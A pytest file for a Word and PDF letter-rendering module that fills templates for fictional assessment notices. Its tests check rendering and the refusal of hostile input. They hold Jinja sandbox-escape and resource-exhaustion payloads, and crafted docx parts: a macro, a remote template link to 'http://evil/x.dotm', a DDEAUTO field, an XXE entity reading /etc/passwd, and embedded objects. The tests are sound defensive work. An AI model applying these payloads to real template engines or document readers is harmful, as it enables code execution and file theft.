"""Letters: the office's template filled in a sandbox, hostile ones refused, the same bytes each time."""

import io
import re
import zipfile
from collections.abc import Callable

import pytest
from docx import Document
from pypdf import PdfReader

from dandang.formats import letters
from dandang.formats.letters import gate
from dandang.formats.letters.same_bytes import normalised
from dandang.terms.refusal import Refusal
from dandang.terms.sentences import say

VALUES: dict[str, object] = {
    "title": "2026年度考核结果告知书",
    "number": "组考告〔2026〕1号",
    "round": "虚构方案 *a* #b $c$ <d> & {{ title }}",
    "year": 2026,
    "name": "欧阳虚构",
    "post": "局长",
    "unit": "虚构局",
    "score": "83.75",
    "decimals": 2,
    "unrounded": "83.750000",
    "no_score": "",
    "grade": "称职",
    "grade_note": "评审组确认。",
    "reasons": ["完成 <重点> 任务 & 其他", '#panic("x") \\ [b]'],
    "cuts": ["优秀 90 分以上", "称职 80 分以上"],
    "choices": [{"name": "优秀", "value": "95", "label": "优秀（95）"}],
    "groups": [
        {
            "name": "A票＋B票",
            "weight": "70",
            "ballots": "8",
            "rows": [
                {"aspect": "德", "counts": ["8"], "blank": "0", "base": "8", "total": "760", "mean": "95.0000"}
            ],
        }
    ],
    "aspects": [{"name": "德", "weight": "100", "means": ["95.0000"], "score": "95.0000"}],
    "shares": [{"name": "优秀", "count": "8", "percent": "100.0"}],
    "denominator": "作出评价的项数",
    "pooling": ["“A票＋B票”合并计算"],
    "objection_days": 5,
    "objection_until": "2026年12月8日",
    "objection_to": "干部监督科",
    "limits": ["票数越少，个别票的影响越大。"],
    "office": "中共虚构县委组织部",
    "day": "2026年12月1日",
    "date": "2026-12-01",
    "fictional": "虚构数据",
}  # fmt: skip


def made_of(*texts: str) -> bytes:
    """A template with these paragraphs."""
    document = Document()
    for text in texts:
        document.add_paragraph(text)
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def changed(content: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    """A template with its parts changed."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return made.getvalue()


def text_of(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([paragraph.text for paragraph in document.paragraphs] + cells)


def refusal_of(template: bytes) -> str:
    with pytest.raises(Refusal) as refused:
        letters.unknown_fields(template)
    assert say(refused.value.code, "zh", **refused.value.values)
    assert say(refused.value.code, "en", **refused.value.values)
    with pytest.raises(Refusal):
        letters.render_word(template, VALUES)
    return refused.value.code


def test_the_built_in_template_uses_known_fields_only() -> None:
    template = letters.default_template()
    assert letters.unknown_fields(template) == ()
    assert template == letters.default_template()


def test_a_letter_in_word_holds_every_value() -> None:
    text = text_of(letters.render_word(letters.default_template(), VALUES))
    for said in (
        "组考告〔2026〕1号",
        "欧阳虚构同志：",
        "83.75 分",
        "称职。评审组确认。",
        "2026年12月8日",
    ):
        assert said in text
    assert "1．完成 <重点> 任务 & 其他" in text
    assert '2．#panic("x") \\ [b]' in text
    assert "《虚构方案 *a* #b $c$ <d> & {{ title }}》" in text
    assert "{%" not in text
    for said in ("优秀（95）", "760", "95.0000", "100.0%", "优秀"):
        assert said in text


def test_a_letter_without_a_score_prints_no_table_of_counts() -> None:
    values = {**VALUES, "score": "", "no_score": "有效票不足 5 张。", "groups": [], "aspects": []}
    text = text_of(letters.render_word(letters.default_template(), values))
    assert "不出具得分。有效票不足 5 张。" in text
    assert "计分票数" not in text


def test_same_values_same_bytes_on_any_day(monkeypatch: pytest.MonkeyPatch) -> None:
    template = letters.default_template()
    before = letters.render_word(template, VALUES), letters.render_pdf(VALUES)
    monkeypatch.setattr("time.localtime", lambda *_: (2031, 5, 6, 7, 8, 9, 1, 126, 0))
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1900000000")
    assert (letters.render_word(template, VALUES), letters.render_pdf(VALUES)) == before


def test_the_parts_of_a_letter_bear_no_hour() -> None:
    word = letters.render_word(made_of("{{ name }}"), VALUES)
    with zipfile.ZipFile(io.BytesIO(word)) as archive:
        assert {part.date_time for part in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert archive.namelist()[0] == "[Content_Types].xml"
    assert normalised(word) == word


def test_the_verify_code_changes_with_any_value() -> None:
    code = letters.verify_code(VALUES)
    assert re.fullmatch(r"([0-9A-F]{4} ){3}[0-9A-F]{4}", code)
    assert code != letters.verify_code({**VALUES, "grade": "优秀"})
    assert code in text_of(letters.render_word(made_of("{{ verify_code }}"), VALUES))


def test_signs_that_xml_cannot_hold_are_left_out() -> None:
    word = letters.render_word(
        made_of("{{ name }}"), {**VALUES, "name": "张\x00\x0b虚\ud800构䶮𬭚"}
    )
    assert "张虚构䶮𬭚" in text_of(word)


def test_unknown_fields_are_named() -> None:
    template = made_of("{{ nmae }} {{ name }}", "{% for g in groups %}{{ g.wieght }}{% endfor %}")
    assert letters.unknown_fields(template) == ("g.wieght", "nmae")
    with pytest.raises(Refusal) as refused:
        letters.render_word(template, VALUES)
    assert refused.value.code == "templates.unknown_fields"
    assert refused.value.values == {"fields": "g.wieght、nmae"}


def test_unknown_fields_in_the_footer_are_named_too() -> None:
    document = Document(io.BytesIO(made_of("{{ name }}")))
    document.sections[0].footer.paragraphs[0].text = "{{ secret }}"
    document.core_properties.title = "{{ hidden }}"
    made = io.BytesIO()
    document.save(made)
    assert letters.unknown_fields(made.getvalue()) == ("hidden", "secret")


@pytest.mark.parametrize(
    "attempt",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ name.__class__ }}",
        "{{ name.upper() }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ self }}{{ self._TemplateReference__context }}",
        "{{ 'a' * 999999999 }}",
        "{{ 9 ** 999999 }}",
        "{% for i in range(999999999) %}x{% endfor %}",
        "{% for a in reasons recursive %}{{ loop(a) }}{% endfor %}",
        "{% set x = name %}{{ x }}",
        "{% include 'x' %}",
        "{% import 'x' as y %}",
        "{% macro m() %}{% endmacro %}",
        "{{ name|attr('__class__') }}",
        "{{ name|center(999999999) }}",
        "{{ reasons[name] }}",
        "{% for a in groups %}{% for b in groups %}{% for c in groups %}{% for d in groups %}"
        "x{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
        "{{ name",
        "{% if name %}",
    ],
)
def test_a_template_that_does_more_than_fill_fields_is_refused(attempt: str) -> None:
    assert refusal_of(made_of(attempt)) in {
        "templates.not_simple",
        "templates.not_fillable",
    }


def test_conditions_lists_and_joins_are_allowed() -> None:
    template = made_of(
        "{% if score and not no_score %}{{ reasons[0] }}{% endif %}",
        "{{ cuts|join('；') }}",
        "{% for each in reasons %}{{ loop.index }}{% endfor %}",
        "{% if group_count == 1 or year > 2000 %}{{ name }}{% endif %}",
    )
    assert letters.unknown_fields(template) == ()
    assert "优秀 90 分以上；称职 80 分以上" in text_of(letters.render_word(template, VALUES))


def test_many_templates_do_not_fill_the_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("dandang.formats.letters.word.MOST_COMPILED", 1)
    for text in ("甲{{ name }}", "乙{{ name }}", "甲{{ name }}"):
        assert f"{text[0]}欧阳虚构" in text_of(letters.render_word(made_of(text), VALUES))


def test_a_list_made_of_a_number_cannot_be_filled() -> None:
    template = made_of("{% for each in year %}{{ each }}{% endfor %}")
    with pytest.raises(Refusal, match=r"templates\.not_fillable"):
        letters.render_word(template, VALUES)


def _footnotes(parts: dict[str, bytes]) -> None:
    space = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
    parts["word/footnotes.xml"] = (
        b'<?xml version="1.0"?><w:footnotes xmlns:w="'
        + space
        + b'"><w:footnote w:id="1"><w:p><w:r>'
        b"<w:t>{{ secret }}</w:t></w:r></w:p></w:footnote></w:footnotes>"
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/word/footnotes.xml" ContentType="' + kind + b'"/></Types>',
    )
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdF" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/footnotes" Target="footnotes.xml"/></Relationships>',
    )


def test_unknown_fields_in_footnotes_are_named() -> None:
    assert letters.unknown_fields(changed(made_of("{{ name }}"), _footnotes)) == ("secret",)


def _macro(parts: dict[str, bytes]) -> None:
    parts["word/vbaProject.bin"] = b"x"


def _macro_type(parts: dict[str, bytes]) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        gate.PLAIN_WORD, b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )


def _link(parts: dict[str, bytes]) -> None:
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
        b"</Relationships>",
    )


def _dde(parts: dict[str, bytes]) -> None:
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"</w:p>",
        b"<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText></w:r></w:p>",
        1,
    )


def _chunk(parts: dict[str, bytes]) -> None:
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:sectPr", b'<w:altChunk r:id="rId1"/><w:sectPr', 1
    )


def _doctype(parts: dict[str, bytes]) -> None:
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:document", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document', 1
    )


def _huge(parts: dict[str, bytes]) -> None:
    parts["word/media/big.png"] = b"\0" * (gate.LARGEST_INSIDE + 1)


def _long(parts: dict[str, bytes]) -> None:
    parts["word/document.xml"] += b" " * gate.LARGEST_TEXT


def _many(parts: dict[str, bytes]) -> None:
    parts.update({f"word/media/{i}.png": b"" for i in range(gate.MOST_PARTS)})


def _no_body(parts: dict[str, bytes]) -> None:
    del parts["word/document.xml"]


def _broken_xml(parts: dict[str, bytes]) -> None:
    parts["word/document.xml"] = b"<w:document"


def _object(parts: dict[str, bytes]) -> None:
    parts["word/embeddings/oleObject1.bin"] = b"x"


@pytest.mark.parametrize(
    ("change", "code"),
    [
        (_macro, "templates.active"),
        (_macro_type, "templates.active"),
        (_link, "templates.active"),
        (_dde, "templates.active"),
        (_chunk, "templates.active"),
        (_object, "templates.active"),
        (_doctype, "templates.not_word"),
        (_no_body, "templates.not_word"),
        (_broken_xml, "templates.not_word"),
        (_huge, "templates.too_large"),
        (_long, "templates.too_large"),
        (_many, "templates.too_large"),
    ],
)
def test_a_hostile_file_is_refused(change: Callable[[dict[str, bytes]], None], code: str) -> None:
    assert refusal_of(changed(made_of("{{ name }}"), change)) == code


def test_what_is_no_docx_is_refused() -> None:
    good = made_of("{{ name }}")
    assert refusal_of(b"hello") == "templates.not_word"
    assert refusal_of(good[: len(good) // 2]) == "templates.not_word"
    assert refusal_of(b"\0" * (gate.LARGEST_FILE + 1)) == "templates.too_large"
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        start = archive.getinfo("word/document.xml").header_offset
    damaged = bytearray(good)
    damaged[start + 60 : start + 90] = b"\xff" * 30
    assert refusal_of(bytes(damaged)) == "templates.not_word"


def pdf_text(content: bytes) -> str:
    pages = PdfReader(io.BytesIO(content)).pages
    return "".join(page.extract_text() for page in pages).replace(" ", "").replace("\n", "")


def test_a_letter_in_pdf_holds_the_same_values_as_data() -> None:
    text = pdf_text(letters.render_pdf(VALUES))
    for said in (
        "组考告〔2026〕1号",
        "欧阳虚构同志",
        "83.75分",
        "2026年12月8日",
        "A票＋B票",
        "95.0000",
    ):
        assert said in text
    assert '#panic("x")\\[b]' in text
    assert "《虚构方案*a*#b$c$<d>&{{title}}》" in text
    assert "不是单位自行编辑的模板" in text
    assert "虚构数据" in text
    assert "共2页" in text


def test_the_letters_of_a_booklet_are_numbered_by_themselves() -> None:
    other = {**VALUES, "name": "王虚构", "score": "", "no_score": "票数不足。"}
    text = pdf_text(letters.render_booklet([VALUES, other]))
    assert text.count("第1页") == 2
    assert "共4页" not in text
    assert "不出具得分。票数不足。" in text


@pytest.mark.parametrize(
    ("values", "day"),
    [
        ({"date": "2026-12-01"}, "D:20261201"),
        ({"year": 2025}, "D:20251231"),
        ({"date": "soon"}, "D:20001231"),
    ],
)
def test_a_pdf_bears_the_day_of_the_letter(values: dict[str, object], day: str) -> None:
    assert day.encode() in letters.render_pdf({**values, "title": "书"})
